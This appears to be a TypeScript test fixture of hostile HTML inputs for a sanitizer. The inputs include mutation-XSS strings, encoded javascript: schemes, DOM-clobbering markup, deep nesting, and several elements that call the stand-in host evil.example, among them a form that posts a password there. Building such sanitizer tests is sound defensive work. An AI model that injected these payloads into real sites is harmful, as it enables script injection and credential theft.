// A flat list: what has broken sanitizers, or might. Each holds the word "rest" where a reader should still find it.

const deep = (tag: string, depth: number) => tag.repeat(depth);

export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
  // Mutation: what a parser makes of its own output.
  ['style in a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">rest</p></noscript>'],
  [
    'style in math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">rest',
  ],
  ['style in svg', '<svg><style><img src=x onerror=alert(1)></style></svg><p>rest</p>'],
  ['p in svg', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">rest</a></style></svg>rest'],
  [
    'form in a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>rest</style></form>rest',
  ],
  [
    'annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>rest',
  ],
  [
    'foreignObject',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>rest',
  ],
  ['desc in svg', '<svg><desc><template><style><img src=x onerror=alert(1)></style></template></desc></svg>rest'],
  ['comment that a browser ends earlier', '<!--><img src=x onerror=alert(1)>-->rest'],
  ['comment that ends with a bang', '<!-- --!><img src=x onerror=alert(1)> -->rest'],
  ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>rest'],
  ['processing instruction', '<?xml version="1.0"?><?php echo 1 ?>rest<? <img src=x onerror=alert(1)> ?>'],
  ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>rest'],
  ['textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>rest'],
  ['title', '<title><p title="</title><img src=x onerror=alert(1)>"></title>rest'],
  ['listing', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>rest'],
  ['select', '<select><template><img src=x onerror=alert(1)></template><option>a</select>rest'],
  [
    'table that puts its content before itself',
    '<table><a href="javascript:alert(1)">rest</a><tr><td><img src=x onerror=alert(1)>',
  ],
  ['backtick attributes', '<img src=`x` onerror=`alert(1)`>rest<p title="``onmouseover=alert(1)">rest</p>'],
  // Half-open tags.
  ['tag without an end', 'rest<img src=x onerror=alert(1)'],
  ['tag in a tag', '<p <img src=x onerror=alert(1)>rest'],
  ['double angle', '<<script>alert(1)//<</script>rest'],
  ['attribute without an end', 'rest<a href="javascript:alert(1)'],
  ['quote swap', `<a title='"><img src=x onerror=alert(1)>'>rest</a>`],
  ['slashes for spaces', '<img/src="x"/onerror=alert(1)>rest'],
  ['form feed for spaces', '<img\fsrc=x\fonerror=alert(1)>rest'],
  ['null in a name', '<scr\0ipt>alert(1)</scr\0ipt>rest<im\0g src=x onerror=alert(1)>'],
  ['closing tags of the page', '</div></li></ul></main></body></html>rest<script>alert(1)</script>'],
  ['items of the page', '<li>rest</li></ul><dd>a</dd><td>b</td><summary>c</summary>'],
  ['button in a button', '<button><button onclick=alert(1)>rest</button></button>'],
  // Entities.
  ['entities in a scheme', '<a href="&#106;avascript&colon;alert(1)">rest</a><a href="jav&Tab;ascript:alert(1)">a</a>'],
  ['long entities', '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">rest</a>'],
  ['entities of tags', '&lt;img src=x onerror=alert(1)&gt;rest&amp;lt;script&amp;gt;'],
  ['entity in a name', '<p on&#99;lick=alert(1)>rest</p>'],
  [
    'scheme behind a control character',
    '<a href="\u0001javascript:alert(1)">rest</a><a href="\u00a0javascript:alert(1)">a</a>',
  ],
  ['scheme in parts', '<a href="java\nscript:alert(1)">rest</a><a href="java&#10;script:alert(1)">a</a>'],
  ['data address', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">rest</a>'],
  [
    'script in a picture’s address',
    '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">rest',
  ],
  [
    'address behind ours',
    '<a href="//evil.example/">rest</a><a href="/\\evil.example/">a</a><a href="/\t/evil.example/">b</a>',
  ],
  // Clobbering.
  [
    'ids of the page',
    '<p id="root">rest</p><p id="boot">a</p><a id="page-scripts" name="boot">b</a><img name="cookie" src="/-/img/480/a.jpg">',
  ],
  [
    'forms that shadow the document',
    '<form name="body"><input name="parentNode"><img name="getElementById" id="getElementById"></form>rest',
  ],
  ['collections', '<a id="self">rest</a><a id="self" name="__SRI__" href="//evil.example">a</a>'],
  ['prototype', '<p id="__proto__">rest</p><p id="constructor" __proto__="x">a</p>'],
  // What acts by itself.
  ['refresh', '<meta http-equiv="refresh" content="0;url=//evil.example/">rest'],
  ['base', '<base href="//evil.example/"><p>rest</p>'],
  ['link', '<link rel="stylesheet" href="//evil.example/a.css"><link rel="prefetch" href="//evil.example/">rest'],
  [
    'style',
    '<style>@import "//evil.example/a.css"; * { display: none }</style><p style="background:url(//evil.example/a)">rest</p>',
  ],
  [
    'frames',
    '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object><embed src="//evil.example/a.swf">rest',
  ],
  ['media', '<video src onerror=alert(1)><source onerror=alert(1)></video><audio src="//evil.example/a"></audio>rest'],
  ['svg', '<svg onload=alert(1)><animate onbegin=alert(1)></svg><svg><use href="//evil.example/a#b"/></svg>rest'],
  [
    'srcset',
    '<picture><source srcset="//evil.example/a.jpg"><img srcset="/-/img/480/a.jpg 1x, //evil.example/b.jpg 2x" src="/-/img/480/a.jpg"></picture>rest',
  ],
  [
    'focus',
    '<input autofocus onfocus=alert(1)><p tabindex=0 autofocus onfocus=alert(1)>rest</p><details open ontoggle=alert(1)>rest</details>',
  ],
  [
    'form',
    '<form action="//evil.example/"><input type="password" name="a"><button formaction="javascript:alert(1)">rest</button></form>',
  ],
  ['ping and target', '<a href="/a/" ping="//evil.example/" target="_top" download>rest</a>'],
  ['editing', '<p contenteditable accesskey="a" popover style="position:fixed;inset:0">rest</p>'],
  [
    'portal and custom elements',
    '<portal src="//evil.example/"></portal><x-a onclick=alert(1)>rest</x-a><slot name="a">rest</slot>',
  ],
  [
    'template with a shadow root',
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template>rest</div>',
  ],
  ['svg link', '<svg><a xlink:href="javascript:alert(1)"><text>rest</text></a></svg>rest'],
  // More than a parser likes.
  ['deep nesting', `${deep('<b>', 20_000)}rest`],
  ['deep tables', `${deep('<table><tr><td>', 2000)}rest`],
  ['deep with closings', `${deep('<i>', 3000)}rest${deep('</b>', 3000)}`],
];
